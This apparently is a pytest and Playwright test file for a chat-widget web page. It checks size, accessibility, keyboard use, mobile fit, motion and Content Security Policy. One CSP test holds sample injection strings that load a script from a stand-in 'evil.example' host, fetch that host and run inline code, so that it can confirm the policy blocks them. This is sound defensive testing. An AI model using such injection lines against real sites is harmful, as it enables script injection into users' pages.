"""What the plain page promises about itself: small, accessible, steady, locked down."""

import gzip
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.conftest import STYLES, Built, Enter, Serve
from tests.browser.window import Window
from tests.conftest import need
from tests.element.standin import CDN

pytestmark = pytest.mark.matrix


@pytest.fixture(params=STYLES)
def style(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.mark.parametrize("style", ["page", "widget", "both"])
def test_it_is_small(serve: Serve, style: str) -> None:
    files = [file for file in (serve(style=style).folder / "frontend").rglob("*") if file.is_file()]
    assert len(files) <= 10
    texts = [file.read_text("utf-8") for file in files]
    assert max(len(line) for text in texts for line in text.splitlines()) <= 120
    scripts = [file.read_bytes() for file in files if file.suffix == ".js"]
    assert len(gzip.compress(b"\n".join(scripts))) < 10_000


def test_its_own_test_in_a_browser_passes(built: Built, style: str) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "tests/e2e.py"],
        cwd=built(style=style).folder / "backend",
        env={**os.environ, "CHROMIUM": need("chromium")},
        capture_output=True,
        text=True,
        check=False,
    )
    assert "1 passed" in done.stdout, done.stdout


@pytest.fixture(scope="module")
def axe(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("axe")
    (folder / "package.json").write_text("{}")
    command = [need("npm"), "install", "--no-package-lock", "--no-audit", "--no-fund", "axe-core@4"]
    subprocess.run(command, cwd=folder, check=True, capture_output=True)
    return (folder / "node_modules/axe-core/axe.min.js").read_text("utf-8")


AUDIT = "axe.run({ iframes: false }).then(({ violations }) => violations.map(JSON.stringify))"


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("style", ["page", "widget"])
@pytest.mark.parametrize("works", [True, False], ids=["working", "broken"])
def test_axe_finds_nothing(
    serve: Serve,
    visitor: Callable[..., BrowserContext],
    axe: str,
    style: str,
    scheme: str,
    works: bool,
) -> None:
    page = visitor(scheme=scheme).new_page()
    if not works:
        page.route(f"{CDN}chatkit.js", lambda route: route.abort())
    window = Window(page).open(serve(style=style).url)
    page.evaluate(axe)
    if style == "widget":
        assert page.evaluate(AUDIT) == []
        window.use("Open chat")
    expect(window.field if works else window.problem).to_be_visible()
    assert page.evaluate(AUDIT) == []
    if works:
        page.route("**/chatkit", lambda route: route.fulfill(status=401, json={}))
        window.write("Hello")
        expect(window.problem).to_be_visible()
        assert page.evaluate(AUDIT) == []


def test_the_bar_is_reached_by_keyboard_in_the_order_seen(serve: Serve, page: Page) -> None:
    window = Window(page).open(serve().url)
    expect(window.field).to_be_visible()
    names = []
    for _ in range(3):
        window.page.keyboard.press("Tab")
        names.append(window.page.evaluate("document.activeElement.ariaLabel"))
    assert names == ["Speak", "Theme: system", "Full screen"]


def test_the_widget_needs_no_mouse(serve: Serve, page: Page) -> None:
    window = Window(page).open(serve(style="widget").url)
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(window.field).to_be_focused()
    page.keyboard.type("Hello")
    page.keyboard.press("Enter")
    expect(window.answers).to_contain_text("You said “Hello”")
    closer = page.get_by_role("button", name="Close chat")
    for _ in range(9):  # back over what the frame has
        page.keyboard.press("Shift+Tab")
        if closer.evaluate("closer => closer === document.activeElement"):
            break
    page.keyboard.press("Enter")
    expect(page.get_by_role("button", name="Open chat")).to_be_focused()


@pytest.mark.parametrize("style", ["page", "widget"])
def test_it_fits_a_small_phone(
    serve: Serve, visitor: Callable[..., BrowserContext], style: str
) -> None:
    page = visitor(width=360, height=640).new_page()
    window = Window(page).open(serve(style=style).url)
    if style == "widget":
        window.use("Open chat")
    window.say("A" * 200)
    box = page.locator("openai-chatkit").bounding_box()
    assert box is not None
    assert box["width"] == 360
    assert box["height"] > 500
    assert page.evaluate("document.documentElement.scrollWidth") == 360
    for button in page.get_by_role("button").all():
        size = button.bounding_box()
        assert size is not None
        assert min(size["width"], size["height"]) >= 40


SHIFTS = """
window.shifts = [];
new PerformanceObserver((list) => {
  for (const shift of list.getEntries()) window.shifts.push(shift.value);
}).observe({ type: "layout-shift", buffered: true });
"""


MOVING = """[...document.querySelectorAll("*")].filter((element) => {
  const { animationName, transitionDuration } = getComputedStyle(element);
  return animationName !== "none" || transitionDuration !== "0s";
}).length"""


def test_nothing_moves_while_it_loads_nor_later_for_who_minds(
    enter: Enter, visitor: Callable[..., BrowserContext]
) -> None:
    context = visitor()
    context.add_init_script(SHIFTS)
    page = context.new_page()
    page.emulate_media(reduced_motion="reduce")
    enter(page).say("Hello")
    assert page.evaluate("window.shifts") == []
    assert page.evaluate(MOVING) == 0


def test_the_policy_of_the_page_lets_nothing_else_in(enter: Enter, page: Page) -> None:
    seen: list[str] = []
    page.on("console", lambda message: seen.append(message.text))
    enter(page).say("Hello")
    assert not [text for text in seen if "Content Security Policy" in text]
    attempts = [
        "new Promise(resolve => Object.assign(document.head.appendChild("
        "document.createElement('script')), {src: 'https://evil.example/x.js', onerror: resolve}))",
        "fetch('https://evil.example/').catch(() => 0)",
        "Promise.resolve(document.head.appendChild(Object.assign("
        "document.createElement('script'), {textContent: 'window.evil = 1'})))",
    ]
    for attempt in attempts:
        page.evaluate(f"() => {attempt}.then(() => 0)")
    assert page.evaluate("window.evil") is None
    assert len([text for text in seen if "Content Security Policy" in text]) >= len(attempts)


def test_every_file_of_the_page_has_the_policy(serve: Serve, page: Page) -> None:
    app = serve(style="both")
    for file in Path(app.folder / "frontend").iterdir():
        response = page.request.get(f"{app.url}/{file.name}")
        assert response.ok, file.name
        assert "default-src 'none'" in response.headers["content-security-policy"]
